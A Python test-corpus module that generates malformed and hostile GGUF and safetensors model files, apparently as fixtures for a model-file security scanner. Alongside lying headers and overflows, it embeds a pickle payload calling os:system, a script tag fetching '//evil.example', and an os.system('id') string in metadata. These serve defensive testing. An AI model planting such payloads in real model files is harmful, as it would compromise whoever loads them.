"""Attacks in GGUF and safetensors files: headers that lie, and templates that run."""

# ruff: noqa: E501  # a table: one technique stays on one line where it can

from __future__ import annotations

import json
import struct

from tests.corpus.chat_templates import LIVE as TEMPLATES
from tests.corpus.opcodes import call, program
from tests.corpus.payload import SHELL
from tests.corpus.technique import table

PICKLE = program(call("os:system", SHELL))
STRING, ARRAY, UINT32 = 8, 9, 4


def text(it: bytes) -> bytes:
    """A GGUF string."""
    return struct.pack("<Q", len(it)) + it


def entry(key: bytes, kind: int, held: bytes) -> bytes:
    """A GGUF key and its value."""
    return text(key) + struct.pack("<I", kind) + held


def info(name: bytes = b"w", dims: tuple[int, ...] = (8,), kind: int = 0, offset: int = 0) -> bytes:
    """A GGUF tensor's description."""
    return text(name) + struct.pack(f"<I{len(dims)}QIQ", len(dims), *dims, kind, offset)


ARCHITECTURE = entry(b"general.architecture", STRING, text(b"llama"))


def gguf(*entries: bytes, tensors: tuple[bytes, ...] = (info(),), payload: bytes = bytes(32), version: int = 3,
         kv: int | None = None, count: int | None = None) -> bytes:  # fmt: skip
    """A GGUF file; `kv` and `count` may lie."""
    held = (ARCHITECTURE, *entries)
    head = struct.pack("<4sIQQ", b"GGUF", version, len(tensors) if count is None else count,
                       len(held) if kv is None else kv)  # fmt: skip
    out = head + b"".join(held) + b"".join(tensors)
    return out + bytes(-len(out) % 32) + payload


def _template(source: str, key: bytes = b"tokenizer.chat_template") -> bytes:
    return gguf(entry(key, STRING, text(source.encode())))


_NESTED = struct.pack("<IQ", ARRAY, 1) * 200 + struct.pack("<IQ", UINT32, 0)
table("gguf", "model.gguf", "gguf", {
    f"template-{key}": (lambda source=source: _template(source)) for key, source in TEMPLATES.items()
} | {
    "template-named-tool-use": lambda: _template(TEMPLATES["globals"], b"tokenizer.chat_template.tool_use"),
}, needs=("gguf", "jinja2"))  # fmt: skip
table("gguf", "model.bin", "", {"template-misnamed": lambda: _template(TEMPLATES["globals"])})
table("gguf", "model.gguf", "", {
    "kv-count-lies": gguf(kv=1 << 60),
    "tensor-count-lies": gguf(count=1 << 60),
    "string-length-lies": gguf(text(b"a") + struct.pack("<IQ", STRING, 1 << 62)),
    "key-length-lies": gguf(struct.pack("<Q", 1 << 63) + b"x"),
    "array-count-lies": gguf(entry(b"a", ARRAY, struct.pack("<IQ", UINT32, 1 << 60))),
    "array-count-overflows": gguf(entry(b"a", ARRAY, struct.pack("<IQ", UINT32, (1 << 62) + 1))),
    "arrays-nested-deep": gguf(entry(b"a", ARRAY, _NESTED)),
    "dims-count-lies": gguf(tensors=(text(b"w") + struct.pack("<I", 1 << 31),)),
    "dims-overflow": gguf(tensors=(info(dims=(1 << 32, 1 << 32, 4)),)),
    "offset-beyond-file": gguf(tensors=(info(offset=1 << 50),)),
    "offset-overflows": gguf(tensors=(info(offset=(1 << 64) - 32),)),
    "tensors-overlap": gguf(tensors=(info(), info(b"v")), payload=bytes(64)),
    "duplicate-tensor-names": gguf(tensors=(info(), info(offset=32)), payload=bytes(64)),
    "duplicate-keys": gguf(ARCHITECTURE),
    "alignment-zero": gguf(entry(b"general.alignment", UINT32, struct.pack("<I", 0))),
    "unknown-type": gguf(entry(b"a", 77, b"\0\0\0\0")),
    "hidden-tail": gguf(payload=bytes(32) + PICKLE * 40),
})  # fmt: skip


def safetensors(
    header: dict[str, object] | bytes, payload: bytes = bytes(16), length: int | None = None
) -> bytes:
    """A safetensors file; `length` may lie."""
    octets = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(octets) if length is None else length) + octets + payload


def at(start: int, end: int, shape: tuple[int, ...] = (4,), dtype: str = "F32") -> dict[str, object]:
    """A tensor's description."""
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [start, end]}


_GOOD = {"w": at(0, 16)}
table("safetensors", "model.safetensors", "", {
    "header-length-lies": safetensors(_GOOD, length=1 << 62),
    "header-over-limit": safetensors(_GOOD, length=200 << 20),
    "tensors-overlap": safetensors({"w": at(0, 16), "v": at(8, 24)}, bytes(24)),
    "hole-with-pickle": safetensors({"w": at(0, 16), "v": at(16 + len(PICKLE), 32 + len(PICKLE))},
                                    bytes(16) + PICKLE + bytes(16)),
    "tail-with-pickle": safetensors(_GOOD, bytes(16) + PICKLE),
    "head-gap-with-pickle": safetensors({"w": at(len(PICKLE), len(PICKLE) + 16)}, PICKLE + bytes(16)),
    "shape-lies": safetensors({"w": at(0, 16, (1 << 40,))}),
    "shape-overflows": safetensors({"w": at(0, 16, (1 << 62, 16))}),
    "shape-negative": safetensors({"w": at(0, 16, (-4,))}),
    "offsets-backwards": safetensors({"w": at(16, 0)}),
    "offsets-beyond": safetensors({"w": at(0, 1 << 50, (1 << 48,))}),
    "duplicate-keys": safetensors(b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},'
                                  b'"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'),
    "duplicate-inner-keys": safetensors(
        b'{"w":{"dtype":"F32","shape":[4],"shape":[2,2],"data_offsets":[0,16]}}'),
    "deep-json": safetensors(b'{"__metadata__":' + b"[" * 5000 + b"]" * 5000 + b"}"),
    "unknown-dtype": safetensors({"w": at(0, 16, dtype="PICKLE")}),
    "metadata-no-strings": safetensors({"__metadata__": {"a": {"b": 1}}, **_GOOD}),
    "metadata-script": safetensors({"__metadata__": {"format": "<script>fetch('//evil.example')</script>"}, **_GOOD}),
    "metadata-python": safetensors({"__metadata__": {"code": "import os; os.system('id')"}, **_GOOD}),
    "trailing-json": safetensors(json.dumps(_GOOD).encode() + b'{"x":1}'),
    "whole-zip-behind": safetensors(_GOOD, bytes(16) + b"PK\5\6" + bytes(18)),
    "elf-behind": safetensors(_GOOD, bytes(16) + b"\x7fELF\x02\x01\x01" + bytes(100)),
})  # fmt: skip
